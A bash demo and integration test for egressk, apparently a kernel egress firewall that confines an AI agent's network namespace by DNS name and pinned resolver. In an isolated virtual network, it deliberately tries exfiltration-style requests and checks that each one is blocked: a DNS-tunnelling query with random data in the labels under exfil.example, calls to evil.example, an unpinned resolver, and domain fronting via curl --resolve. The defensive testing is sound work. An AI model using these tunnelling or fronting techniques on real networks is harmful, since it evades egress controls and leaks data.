#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0
#
# The demo, guest side (tests/integration/demo.sh boots the VM that runs it):
# an AI agent's network namespace under egressk, with DNS control.
#
#   agent netns (policed by egressk)        net netns ("the internet")
#     veth0 192.0.2.1/24    <-------->      veth1 192.0.2.2   api.example
#           2001:db8::1/64                        192.0.2.3   other.example
#     /etc/resolv.conf:                           192.0.2.4   registry.pkg.example
#       nameserver 192.0.2.53                     192.0.2.53  dnsmasq: the agent's resolver
#                                                 192.0.2.54  the same dnsmasq, not pinned
#                                                 2001:db8::2, ::3, ::4 as .2, .3, .4
#
#   Every net address serves HTTP on port 80 and TLS (self-signed) on 443.
#   dnsmasq answers api.example, registry.pkg.example, and evil.example
#   (with the registry's address); other names under .example are NXDOMAIN.
#
# The agent resolves through /etc/netns/<agent>/resolv.conf, which
# "ip netns exec" mounts over /etc/resolv.conf.  The guest's / is read-only,
# so the demo re-runs itself in a private mount namespace and lays an
# overlayfs over /etc there (as test_dns.sh does); nothing else sees it.
#
# Each step is checked (PASS/FAIL lines); the last line is the summary.
if [ "${EGRESSK_DEMO_MNTNS:-}" != 1 ]; then
	EGRESSK_DEMO_MNTNS=1 exec unshare --mount --propagation private -- bash "$0" "$@"
	echo "FAIL: demo: unshare --mount"; echo "0 passed, 1 failed, 0 skipped"; exit 1
fi
source "$(dirname "$0")/../lib.sh"
TEST_NAME=demo
POLICY=$LIB_DIR/demo/agent.policy
REG4=192.0.2.4 REG6=2001:db8::4 RES4=192.0.2.53 UNPINNED4=192.0.2.54
DNSLOG=$TMPD/dnsmasq.log TLSLOG=$TMPD/tls.log EVENTS=$TMPD/events

heading() { printf '\n=== %s ===\n' "$*"; }
run() { printf '$ %s\n' "$*"; "$@"; }
# acurl ARGS: curl in the agent namespace, shown as typed there; the demo
# adds -sS -k --max-time 5 and a last line with curl's own timing (process
# start-up under emulation excluded) and the address it connected to.
# Sets RC and T (seconds).
acurl() {
	local out
	printf 'agent$ curl %s\n' "$*"
	out=$(ip netns exec "$AGENT" curl -sS -k --max-time 5 \
		-w '\n[curl: %{time_total}s, remote %{remote_ip}]\n' "$@" 2>&1)
	RC=$?
	out=${out/, remote ]/]}		# no connection, no remote address
	printf '%s\n(exit %s)\n' "$out" "$RC"
	T=$(echo "$out" | sed -n 's/^\[curl: \([0-9.]*\)s.*\]$/\1/p')
}
# adig ARGS: dig in the agent namespace (+tries=1 +time=5: a lost query would
# take 5 s).  Sets RC and DOUT (its output); prints the wall-clock time,
# which under emulation is mostly the start-up of "ip netns exec" and dig.
adig() {
	local out t0
	printf 'agent$ dig %s\n' "$*"
	t0=$(now)
	out=$(ip netns exec "$AGENT" dig +tries=1 +time=5 "$@" 2>&1)
	RC=$?
	T=$(elapsed "$t0")
	DOUT=$(echo "$out" | grep -vE '^(;; global|; <<>>|$)')
	printf '%s\n[dig: %ss, start-up included]\n(exit %s)\n' "$DOUT" "$T" "$RC"
}
# why REASON: print what "egresskctl monitor" (running on the host) reported
# since the last call, and check that REASON is among it
ev_seen=0
why() {
	wait_for 5 sh -c "tail -n +$((ev_seen + 1)) '$EVENTS' | grep -q 'reason=$1 '"
	tail -n +$((ev_seen + 1)) "$EVENTS" | sed 's/^/  monitor: /'
	check "...egresskctl monitor says reason=$1" \
		sh -c "tail -n +$((ev_seen + 1)) '$EVENTS' | grep -q 'reason=$1 '"
	ev_seen=$(wc -l <"$EVENTS")
}
# dnsmasq_quiet MARK: the resolver logged no query since line MARK of its log
dnsmasq_quiet() { sleep 0.2; ! tail -n +$(($1 + 1)) "$DNSLOG" | grep 'query\['; }

# ------------------------------------------------------------------ setup
mkdir -p "$TMPD/etc/upper" "$TMPD/etc/work"
mount -t overlay demo-etc -o "lowerdir=/etc,upperdir=$TMPD/etc/upper,workdir=$TMPD/etc/work" /etc ||
	bail "overlayfs over /etc in the demo's mount namespace"
trap 'rc=$?; umount -l /etc 2>/dev/null; (exit $rc); _cleanup' EXIT
require_built
module_load || bail "egressk.ko loads"
topo_basic
addr "$NET" veth1 $REG4/24 $REG6/64 $RES4/24 $UNPINNED4/24 || bail "net addresses"
mkdir -p "/etc/netns/$AGENT" && echo "nameserver $RES4" >"/etc/netns/$AGENT/resolv.conf" ||
	bail "/etc/netns/$AGENT/resolv.conf"

serve "$NET" --tcp 80
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes \
	-keyout "$TMPD/key.pem" -out "$TMPD/cert.pem" -subj /CN=demo -days 1 2>/dev/null
ip netns exec "$NET" python3 -I -S "$LIB_DIR/tlsprobe.py" serve --cert "$TMPD/cert.pem" \
	--key "$TMPD/key.pem" --log "$TLSLOG" --tls 443 --ready "$TMPD/tls.ready" \
	>"$TMPD/tls.out" 2>&1 &
_pids+=($!)
# --keep-in-foreground: see test_dns.sh (debug mode serves TCP inline)
ip netns exec "$NET" dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts \
	--user=root --group=root --pid-file="$TMPD/dnsmasq.pid" --bind-interfaces \
	--listen-address=$RES4,$UNPINNED4 --log-queries --log-facility="$DNSLOG" \
	--local=/example/ --host-record=api.example,$API4,$API6,300 \
	--host-record=registry.pkg.example,$REG4,$REG6,300 --host-record=evil.example,$REG4,300 \
	>"$TMPD/dnsmasq.out" 2>&1 &
_pids+=($!)
wait_for 20 test -e "$TMPD/tls.ready" || bail "the TLS server starts" "$(cat "$TMPD/tls.out")"
wait_for 20 sh -c "ip netns exec '$NET' ss -Hlun 'src $RES4 and sport = :53' | grep -q ." ||
	bail "dnsmasq starts" "$(cat "$TMPD/dnsmasq.out")"
touch "$DNSLOG"

heading "1. An agent's network namespace, and the policy for it"
echo "namespace: $AGENT (a container's netns would be named with --pid or --docker)"
run ip netns exec "$AGENT" cat /etc/resolv.conf
run cat "$POLICY"

heading "2. Apply it from the host"
run "$CTL" apply --netns-name "$AGENT" "$POLICY"
check "apply (exit $?)" [ $? -eq 0 ]
run "$CTL" show --netns-name "$AGENT"
echo "(and on the host: egresskctl monitor --netns-name $AGENT, whose events are shown below)"
"$CTL" monitor --netns-name "$AGENT" >"$EVENTS" 2>&1 &
_pids+=($!)
sleep 1

heading "3. The agent reaches its API server"
acurl http://api.example/
check "curl to api.example (resolved: allow dns-name; allowed: cidr) succeeds" [ $RC -eq 0 ]

heading "4. Anything else is refused at once"
acurl http://$OTHER4/
check "blocked curl to $OTHER4 fails (exit $RC)" [ $RC -ne 0 ]
check "...fast (${T}s < 1s), not by timeout" lt "${T:-9}" 1.0
acurl "http://[$OTHER6]/"
check "blocked IPv6 curl to $OTHER6 fails (exit $RC)" [ $RC -ne 0 ]
echo "(port 80 is one the domain rule covers, so the reason is not-learned: no DNS answer returned $OTHER4)"
why not-learned

heading "5. The package registry, by name"
echo "The agent resolves registry.pkg.example through the pinned resolver $RES4;"
echo "egressk reads the answer and learns the addresses for the rule 'allow domain .pkg.example'."
acurl https://registry.pkg.example/
check "curl https://registry.pkg.example/ succeeds" [ $RC -eq 0 ]
run "$CTL" show --netns-name "$AGENT" --learned
for a in $REG4 $REG6; do
	check "show --learned lists $a for registry.pkg.example" \
		sh -c "'$CTL' show --netns-name '$AGENT' --learned | grep -E '^$a +registry\.pkg\.example '"
done

heading "6. DNS answers only the names the policy allows, and only from its resolver"
m=$(wc -l <"$DNSLOG")
acurl https://evil.example/
check "curl https://evil.example/ cannot resolve the name (exit $RC)" [ $RC -eq 6 ]
check "...at once (${T}s < 1s), not by timeout" lt "${T:-9}" 1.0
why dns-name
X=$(head -c 30 /dev/urandom | base32 | tr -d = | tr A-Z a-z).exfil.example
echo "A tunnelling-style query (data in the labels, under a domain no rule covers):"
adig TXT "$X"
check "dig of the tunnelling-style name is refused (exit $RC)" [ $RC -ne 0 ]
check "...at once: dig got 'host unreachable' back, it did not time out" \
	grep -q 'host unreachable' <<<"$DOUT"
why dns-name
check "neither query reached the resolver (dnsmasq's log)" dnsmasq_quiet "$m"
echo "$UNPINNED4 runs a resolver too, but the policy does not pin it:"
adig @$UNPINNED4 registry.pkg.example
check "dig @$UNPINNED4 (unpinned) is refused (exit $RC)" [ $RC -ne 0 ]
check "...at once: 'host unreachable', no timeout" grep -q 'host unreachable' <<<"$DOUT"
why dns-unpinned
check "...and the query never reached it" dnsmasq_quiet "$m"

heading "7. The name alone is not enough"
echo "Fronting: the allowed name sent to $OTHER4, an address no answer returned (it serves TLS too)."
m=$(wc -l <"$TLSLOG")
acurl --resolve registry.pkg.example:443:$OTHER4 https://registry.pkg.example/
check "curl registry.pkg.example via $OTHER4 is refused (exit $RC)" [ $RC -ne 0 ]
check "...at once (${T}s < 1s)" lt "${T:-9}" 1.0
why not-learned
check "...and the server at $OTHER4 saw no connection" \
	sh -c "sleep 0.2; ! tail -n +$((m + 1)) '$TLSLOG' | grep '^accept'"
echo "The other way round: another name sent to the registry's learned address $REG4."
acurl --resolve evil.example:443:$REG4 https://evil.example/
check "curl evil.example via $REG4 is reset (exit $RC)" [ $RC -ne 0 ]
check "...at once (${T}s < 1s)" lt "${T:-9}" 1.0
why domain-mismatch
check "...and its ClientHello never reached the server" \
	sh -c "! grep 'evil.example' '$TLSLOG'"

heading "8. What egressk counted"
run "$CTL" stats --netns-name "$AGENT"
run "$CTL" list

heading "9. Remove the policy: the namespace is unrestricted again"
run "$CTL" clear --netns-name "$AGENT"
acurl http://$OTHER4/
check "after clear, $OTHER4 is reachable" [ $RC -eq 0 ]
adig +short evil.example
check "after clear, evil.example resolves" [ "$DOUT" = $REG4 ]
echo
